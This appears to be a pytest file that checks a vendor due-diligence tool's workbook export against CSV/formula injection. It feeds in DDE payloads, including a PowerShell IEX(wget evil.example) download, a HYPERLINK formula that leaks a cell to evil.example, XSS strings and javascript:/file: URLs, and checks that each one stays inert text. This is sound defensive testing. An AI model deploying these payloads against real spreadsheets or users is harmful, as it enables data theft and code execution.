"""Hostile text in every string field: never a formula, never a link, never a broken workbook.

A profile that *validates* (every free-text field at its schema maxLength,
filled with formula starters, DDE and HYPERLINK payloads, tab and CR,
characters XML cannot hold, right-to-left text, CJK and emoji) goes through
the real CLI to a workbook and JSON results. Then:

- no cell is a formula or an error value, and no worksheet XML has an ``<f>``
  element; text that an edit would turn into a formula carries the quote prefix;
- every hyperlink is http(s), mailto or a jump inside the workbook;
- CJK, emoji (with ZWJ sequences and flags) and RTL text survive intact, in
  openpyxl, in calamine and (slow) in LibreOffice, which must not compute
  any payload;
- the JSON results keep every string exactly (they are data, not cells).

The schema caps profile text (names 200, text 2,000 characters), so
100,000-character strings go where it has no limit (``x-`` annotations,
extension data) and, for the cells, straight into a results document.
tests/test_xlsx_text.py tests the cell helpers one by one and
tests/test_scorecard.py a hand-made results sample; this file drives real
profiles end to end.
"""

from __future__ import annotations

import copy
import csv
import json
import re
import shutil
import subprocess
import sys
import zipfile

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from vendordd.cli import main
from vendordd.scorecard import write_scorecard
from vendordd.testing import validate_profile
from vendordd.xlsx_text import safe_text, utf16_len

AS_OF = "2026-06-01"

CJK_NAME = "林俊旸"
EMOJI = "🚀👩‍💻🇨🇳"
RTL = "שלום עולם مرحبا بالعالم"
#: Payloads, each a complete attack on its own.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",                       # DDE
    "+cmd|' /C powershell IEX(wget evil.example/x)'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2*3",
    "\t=1+1",                                   # tab first
    "\r=1+1",                                   # carriage return first
    "=1+1\r\nsecond line",
    "#N/A",
    "\x00\x01NUL\x0bVT\x0cFF\x1fUS\ufffe\uffff",  # characters XML 1.0 cannot hold
    "\u202egnp.exe",                            # right-to-left override
    f"{RTL} {CJK_NAME} {EMOJI}",
]
#: Characters XML 1.0 cannot hold: none may reach a cell.
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
SAFE_LINK = ("http://", "https://", "mailto:")
#: Passes the profile schema (http(s), no space) but must never become a link.
SNEAKY_URL = 'https://evil.example/"><script>alert(1)</script>'


def _fill(payload: str, size: int) -> str:
    """``payload`` padded with CJK, emoji and RTL text to exactly ``size`` code points."""
    pad = f" {CJK_NAME} {EMOJI} {RTL}"
    text = payload + pad * (size // len(pad) + 1)
    return text[:size]


def hostile_profile(vendor_id: str = "hostile-vendor") -> dict:
    """A valid profile with every free-text field at its maximum length and full of payloads."""
    p = iter(PAYLOADS * 10)

    def name() -> str:
        return _fill(next(p), 200)

    def text() -> str:
        return _fill(next(p), 2000)

    return {
        "schema_version": 1,
        "x-huge-note": _fill(PAYLOADS[0], 100_000),
        "vendor": {"id": vendor_id, "name": f"=2*3 {CJK_NAME} {EMOJI} {RTL}", "legal_name": name(),
                   "aliases": [name(), name()], "headquarters": "CN", "website": SNEAKY_URL,
                   "capabilities": ["chat"], "products": [name()], "notes": text(),
                   "x-crm": _fill(PAYLOADS[1], 100_000)},
        "profile_date": "2026-05-01",
        "sources": [
            {"id": "s1", "title": text(), "url": "https://example.com/report?q=%3D1%2B1", "publisher": name(),
             "published": "2026-04-01", "kind": "news", "notes": text()},
            {"id": "s2", "title": "=HYPERLINK(\"file:///etc/passwd\")", "url": SNEAKY_URL,
             "publisher": name(), "published": "2026-04-02", "kind": "primary"},
            # One source per payload, as its exact title: each is certain to reach a cell.
            *({"id": f"p{i}", "title": payload, "url": f"https://example.com/p{i}", "publisher": payload}
              for i, payload in enumerate(PAYLOADS)),
        ],
        "leadership": {
            "key_people": [
                {"name": f"{CJK_NAME} =1+1", "role": name(), "area": "research", "seniority": "lead",
                 "joined": "2019-06", "left": "2026-03-03", "destination": name(), "sources": ["s1"],
                 "notes": text()},
                {"name": name(), "role": name(), "area": "code", "seniority": "lead", "joined": "2020-01",
                 "left": "2026-03-10", "sources": ["s2"]},
                {"name": name(), "role": name(), "area": "executive", "seniority": "c_level",
                 "joined": "2015-01", "sources": ["s1"]},
            ],
            "events": [{"date": "2026-02", "type": "restructuring", "summary": text(), "sources": ["s1"],
                        "notes": text()}],
            "notes": text(),
        },
        "open_source": {
            "releases": [{"name": name(), "date": "2025-09-19", "availability": "open_weights",
                          "license": "LicenseRef--cmd", "flagship": True, "sources": ["s1"],
                          "notes": text()},
                         {"name": name(), "date": "2026-04-01", "availability": "api_only", "flagship": True,
                          "sources": ["s2"]}],
            "adoption": {"downloads": 600000000, "derivative_models": 170000, "as_of": "2026-03",
                         "sources": ["s1"], "notes": text()},
            "commitments": [{"date": "2025-12-01", "statement": text(), "sources": ["s1"]}],
            "notes": text(),
        },
        "compute": {
            "accelerators": [{"type": _fill("=cmd|' /C calc'!A0", 100), "count": 1000, "owned": True,
                              "as_of": "2026-01", "sources": ["s1"], "notes": text()},
                             {"type": "H800", "count": 10000, "owned": True, "as_of": "2026-01",
                              "sources": ["s1"]}],
            "h100_equivalents_basis": text(),
            "capex_commitments": [{"amount_usd": 5e10, "period_years": 3, "announced": "2026-02-24",
                                   "sources": ["s1"], "notes": text()}],
            "supply_constraints": [{"type": "export_control", "summary": text(), "sources": ["s2"]}],
            "notes": text(),
        },
        "geopolitics": {
            "jurisdictions": ["CN", "SG"],
            "ownership": {"state_owned_pct": 0, "state_linked": False,
                          "major_shareholders": [{"name": name(), "country": "CN", "pct": 30}],
                          "sources": ["s1"]},
            "sanctions": [{"list": "US-BIS-ENTITY", "status": "proposed", "since": "2026-01-15",
                           "entity": name(), "sources": ["s2"]}],
            "government_restrictions": [{"jurisdiction": "IT", "scope": text(), "date": "2025-01-30",
                                         "sources": ["s1"]}],
            "notes": text(),
        },
        "extensions": {"no-such-plugin": {"blob": _fill(PAYLOADS[2], 100_000)}},
    }


def _all_strings(node) -> list[str]:
    if isinstance(node, dict):
        return [s for k, v in node.items() for s in (*_all_strings(k), *_all_strings(v))]
    if isinstance(node, list):
        return [s for v in node for s in _all_strings(v)]
    return [node] if isinstance(node, str) else []


def test_the_hostile_profile_is_valid_and_uses_the_longest_allowed_text():
    profile = hostile_profile()
    assert validate_profile(profile) == []
    lengths = {len(s) for s in _all_strings(profile)}
    assert {200, 2000, 100, 100_000} <= lengths
    one_more = copy.deepcopy(profile)
    one_more["vendor"]["legal_name"] += "x"
    one_more["sources"][0]["title"] += "x"
    assert sorted(validate_profile(one_more)) == [
        "/sources/0/title: text of 2001 characters is longer than 2000",
        "/vendor/legal_name: text of 201 characters is longer than 200"]


@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "file:///etc/passwd",
                                 "data:text/html,<script>alert(1)</script>", "\\\\evil\\share\\x.xlsx",
                                 "JAVASCRIPT:alert(1)", " https://example.com", "https://exa mple.com"])
def test_the_profile_schema_only_accepts_http_urls(url):
    profile = hostile_profile()
    profile["vendor"]["website"] = url
    profile["sources"][0]["url"] = url
    problems = validate_profile(profile)
    assert {p.split(": ")[0] for p in problems} == {"/sources/0/url", "/vendor/website"}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """The hostile profile (and a plain one) through ``vendordd run`` to a workbook and JSON."""
    root = tmp_path_factory.mktemp("hostile")
    profiles = root / "profiles"
    profiles.mkdir()
    (profiles / "hostile.json").write_text(json.dumps(hostile_profile(), ensure_ascii=False), encoding="utf-8")
    twin = hostile_profile("hostile-twin")  # same name: the sheet titles must stay unique
    (profiles / "twin.json").write_text(json.dumps(twin), encoding="utf-8")
    xlsx, results = root / "hostile.xlsx", root / "hostile.json"
    with pytest.raises(SystemExit) as done:
        main(["run", str(profiles), "--as-of", AS_OF, "-o", str(xlsx), "--json", str(results)])
    assert done.value.code in (0, None)
    return {"root": root, "xlsx": xlsx, "results": json.loads(results.read_text(encoding="utf-8"))}


@pytest.fixture(scope="module")
def book(hostile_run):
    return load_workbook(hostile_run["xlsx"])


def _cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws, cell


def test_no_cell_is_a_formula_and_formula_like_text_is_quoted(book, hostile_run):
    hits = 0
    for ws, cell in _cells(book):
        assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
            assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value[:40])
            hits += 1
    assert hits > 20  # the payloads did reach the cells
    with zipfile.ZipFile(hostile_run["xlsx"]) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
                assert 't="e"' not in xml, name  # no error-valued cell either


def test_payloads_arrive_as_the_exact_cleaned_text(book):
    cells = [c for _, c in _cells(book) if isinstance(c.value, str)]
    texts = [c.value for c in cells]
    for payload in PAYLOADS:
        exact = [c for c in cells if c.value == safe_text(payload)]
        assert len(exact) >= 4, payload  # Evidence title and publisher, for both vendors
        assert all(c.data_type == "s" for c in exact)
        assert all(c.quotePrefix for c in exact if c.value.startswith(("=", "+", "-", "@", "\t", "\n")))
    joined = "\n".join(texts)
    assert not any(XML_ILLEGAL.search(t) for t in texts)
    assert "NULVTFFUS" in joined  # what XML cannot hold was dropped, the rest kept
    assert all(utf16_len(t) <= 32767 for t in texts)


def test_vendor_name_with_cjk_emoji_and_rtl_survives_intact(book, hostile_run):
    name = hostile_run["results"]["vendors"][0]["name"]
    assert name == f"=2*3 {CJK_NAME} {EMOJI} {RTL}"
    summary_names = [c.value for c in book["Summary"]["A"] if c.value == name]
    assert len(summary_names) == 2  # the hostile vendor and its twin
    calamine = CalamineWorkbook.from_path(str(hostile_run["xlsx"]))
    flat = [v for row in calamine.get_sheet_by_name("Summary").to_python() for v in row]
    assert flat.count(name) == 2
    titles = book.sheetnames
    vendor_titles = [t for t in titles if CJK_NAME in t]
    assert len(vendor_titles) == 2 and len({t.casefold() for t in titles}) == len(titles)
    for title in titles:
        assert utf16_len(title) <= 31 and not re.search(r"[\[\]:*?/\\]", title)


def test_no_hostile_url_became_a_link(book):
    targets = []
    for ws in book.worksheets:
        for link in ws._hyperlinks:
            if link.target:
                targets.append(link.target)
    for _, cell in _cells(book):
        if cell.hyperlink is not None and cell.hyperlink.target:
            targets.append(cell.hyperlink.target)
    assert "https://example.com/report?q=%3D1%2B1" in targets  # a good link still works
    assert all(t.startswith(SAFE_LINK) for t in targets)
    assert not any("evil.example" in t or "file:" in t for t in targets)
    shown = [c for _, c in _cells(book) if c.value == SNEAKY_URL]
    assert shown and all(c.hyperlink is None for c in shown)  # shown as text, not linked


def test_json_results_keep_every_string_exactly(hostile_run):
    results = hostile_run["results"]
    profile = hostile_profile()
    vendor = next(v for v in results["vendors"] if v["id"] == "hostile-vendor")
    assert vendor["legal_name"] == profile["vendor"]["legal_name"]
    # sources: each listed by id; their titles (every payload) are the profile's, pinned by its hash
    # in the results' inputs and shown in the workbook, not repeated in the file (docs/results.md)
    assert [s["id"] for s in vendor["sources"]] == [s["id"] for s in profile["sources"]]
    assert not any("title" in s or "publisher" in s for s in vendor["sources"])
    facts = next(c["facts"] for c in vendor["checks"] if c["id"] == "leadership_turnover")
    people = [(d["name"], d["role"]) for d in facts["departures"] + facts["departures_before_window"]]
    assert sorted(people) == sorted((kp["name"], kp["role"]) for kp in profile["leadership"]["key_people"]
                                    if kp.get("left"))
    # (control characters written exactly, by orjson and json alike: tests/test_results_json.py)
    assert vendor["website"] == SNEAKY_URL
    assert "x-huge-note" not in json.dumps(results)  # annotations are not copied into the results


def _huge(seed: str) -> str:
    """100,000 characters, emoji-heavy so that any cut falls between astral characters."""
    return _fill(seed, 100_000)


def test_hundred_thousand_character_strings_in_results_are_cut_safely(tmp_path, hostile_run):
    results = copy.deepcopy(hostile_run["results"])
    vendor = results["vendors"][0]
    vendor["name"] = _huge("=HYPERLINK(\"x\")")
    vendor["legal_name"] = _huge("@SUM(A1)")
    vendor["top_risks"] = [_huge("+1")]
    for check in vendor["checks"][:2]:
        check["summary"] = _huge("-1")
        check["rationale"] = [_huge("="), _huge("\t")]
        check["recommendations"] = [_huge("🚀")]
        check["error"] = _huge("#REF!")
    for source in vendor["sources"][:2]:
        source["title"] = _huge("=cmd|' /C calc'!A0")
        source["url"] = "https://example.com/" + "a" * 100_000  # too long to be a link
    results["errors"] = [{"file": _huge("bad"), "pointer": "/" + "x" * 100_000, "line": 1, "column": 1,
                          "message": _huge("=1+1")}]
    results["warnings"] = [_huge("-warn")]
    out = tmp_path / "huge.xlsx"
    write_scorecard(results, out)
    wb = load_workbook(out)
    texts = [c.value for _, c in _cells(wb) if isinstance(c.value, str)]
    assert all(utf16_len(t) <= 32767 for t in texts)
    cut = [t for t in texts if re.search(r"… \[cut: [\d,]+ characters\]$", t)]
    assert len(cut) >= 10
    for t in texts:
        t.encode("utf-8")  # no half of a surrogate pair was left behind
    assert all(ws.title for ws in wb.worksheets) and all(utf16_len(t) <= 31 for t in wb.sheetnames)
    assert not any(c.hyperlink is not None and c.hyperlink.target and "a" * 3000 in c.hyperlink.target
                   for _, c in _cells(wb))


UNSAFE_URLS = ["javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
               "file:///etc/passwd", "file://server/share/x.xlsm", "\\\\evil\\share\\payload.xlsm",
               "data:text/html,<script>x</script>", "vbscript:msgbox(1)", 'https://evil.example/"><script>',
               "https://", "mailto:", "//evil.example/x", "ms-excel:ofe|u|https://evil.example/x.xlsm",
               "https://evil.example/\u202etxt.exe", "https://evil.example/" + "a" * 3000]


def test_the_scorecard_refuses_to_link_unsafe_urls_in_results(tmp_path, hostile_run):
    """Defence in depth: results may come from a plugin or a hand-edited file, not the schema."""
    results = copy.deepcopy(hostile_run["results"])
    slots = [(v, "website") for v in results["vendors"]] + \
        [(s, "url") for v in results["vendors"] for s in v["sources"]]
    assert len(slots) >= len(UNSAFE_URLS)
    for i, (entry, key) in enumerate(slots):
        entry[key] = UNSAFE_URLS[i % len(UNSAFE_URLS)]
    out = tmp_path / "links.xlsx"
    write_scorecard(results, out)
    wb = load_workbook(out)
    targets = [link.target for ws in wb.worksheets for link in ws._hyperlinks if link.target]
    targets += [c.hyperlink.target for _, c in _cells(wb) if c.hyperlink is not None and c.hyperlink.target]
    assert targets == []  # no web link at all: every URL in these results was unsafe
    assert any(c.hyperlink is not None and c.hyperlink.location for _, c in _cells(wb))  # jumps still work
    shown = {c.value for _, c in _cells(wb)}
    assert {safe_text(u) for u in UNSAFE_URLS} <= shown  # still shown, as text
    with zipfile.ZipFile(out) as archive:
        rels = "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".rels"))
    assert 'TargetMode="External"' not in rels


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_hostile_workbook_and_computes_nothing(hostile_run, tmp_path):
    """Every sheet to CSV: LibreOffice loads the file and shows each payload as the text it is."""
    xlsx = tmp_path / "hostile.xlsx"
    shutil.copyfile(hostile_run["xlsx"], xlsx)
    profile = tmp_path / "lo-profile"
    proc = subprocess.run(
        ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
         "--outdir", str(tmp_path / "csv"), str(xlsx)],
        capture_output=True, text=True, timeout=240)
    sheets = sorted((tmp_path / "csv").glob("hostile-*.csv"))
    assert len(sheets) == len(load_workbook(hostile_run["xlsx"], read_only=True).sheetnames), \
        (proc.stdout, proc.stderr)
    csv.field_size_limit(sys.maxsize)
    summary = next(p for p in sheets if p.name == "hostile-Summary.csv")
    cells = [c for row in csv.reader(summary.open(encoding="utf-8", newline="")) for c in row]
    name = f"=2*3 {CJK_NAME} {EMOJI} {RTL}"
    assert cells.count(name) == 2  # shown as typed: not computed to 6, CJK and emoji intact
    everything = "\n".join(p.read_text(encoding="utf-8") for p in sheets)
    assert "=cmd|' /C calc'!A0" in everything
    assert '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")' in everything.replace('""', '"')
    assert "#VALUE!" not in everything and "Err:" not in everything
